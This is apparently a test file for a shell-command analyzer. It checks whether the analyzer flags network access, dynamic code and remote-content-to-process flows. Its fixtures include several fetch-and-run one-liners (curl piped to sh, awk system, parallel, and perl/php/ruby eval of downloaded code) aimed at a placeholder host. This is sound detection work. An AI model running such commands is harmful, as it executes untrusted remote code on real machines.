import t from 'tap'
import { readShell } from '../../src/analysis/shell/read.ts'

interface Case {
  readonly line: string
  readonly can?: readonly string[]
  readonly flows?: readonly string[]
  readonly starts?: readonly string[]
  readonly inline?: readonly string[]
}

const CASES: readonly Case[] = [
  {
    line: "curl -s https://c.invalid/l | xargs -I{} sh -c '{}'",
    can: ['network'],
    flows: ['remote-content->process'],
  },
  { line: "cat list | xargs -I{} sh -c 'echo {}'" },
  { line: 'cat cmds.txt | xargs -I % %', starts: ['sh cmds.txt'] },
  {
    line: 'curl -s https://c.invalid/t.tar | tar x --to-command=sh',
    can: ['network', 'process'],
    flows: ['remote-content->process'],
  },
  { line: 'tar xf t.tar --to-command=sh', can: ['process'], starts: ['sh t.tar'] },
  { line: 'tar xf t.tar --to-command=cat' },
  {
    line: "curl -s https://c.invalid/l | awk '{ system($0) }'",
    can: ['network'],
    flows: ['remote-content->process'],
  },
  { line: "curl -s https://c.invalid/l | awk '{ print $1 }'", can: ['network'] },
  { line: 'curl -s https://c.invalid/l | parallel', can: ['network'], flows: ['remote-content->process'] },
  {
    line: 'curl https://c.invalid/l | while read line; do $line; done',
    can: ['network'],
    flows: ['remote-content->process'],
  },
  { line: 'curl https://c.invalid/l | while read line; do echo "$line"; done', can: ['network'] },
  {
    line: `perl -MLWP::Simple -e 'eval get("https://c.invalid/p")'`,
    can: ['dynamic-code', 'network', 'process'],
    flows: ['remote-content->process'],
  },
  {
    line: `php -r 'eval(file_get_contents("https://c.invalid/p"));'`,
    can: ['dynamic-code', 'network', 'process'],
    flows: ['remote-content->process'],
  },
  {
    line: `ruby -ropen-uri -e 'eval URI.open("https://c.invalid/r").read'`,
    can: ['dynamic-code', 'network', 'process'],
    flows: ['remote-content->process'],
  },
  { line: 'uv run s.py', starts: ['s.py'] },
  { line: 'uv run --with requests python s.py', starts: ['python s.py'] },
  {
    line: 'uv run https://c.invalid/s.py',
    can: ['network'],
    flows: ['remote-content->process'],
    starts: ['https://c.invalid/s.py'],
  },
  { line: 'open x.command', starts: ['x.command'] },
  { line: 'xdg-open ./x.desktop', starts: ['./x.desktop'] },
  { line: 'open docs/index.html' },
  { line: 'open https://c.invalid/x.exe' },
  { line: 'busybox sh x.sh', starts: ['sh x.sh'] },
  { line: "sh -c 'export -p'", can: ['env'] },
]

t.test('what commands are given to run', async (t) => {
  for (const { line, can = [], flows = [], starts = [], inline = [] } of CASES) {
    const reading = readShell(line)
    t.same([...new Set(reading.capabilities.map(({ kind }) => kind))].toSorted(), can.toSorted(), `${line}: can`)
    t.same(
      reading.flows.map(({ source, sink }) => `${source.kind}->${sink.kind}`),
      flows,
      `${line}: flows`,
    )
    t.same(
      reading.starts.map(({ command }) => command),
      starts,
      `${line}: starts`,
    )
    t.same(
      reading.inline.map(({ code }) => code),
      inline,
      `${line}: inline`,
    )
  }
})
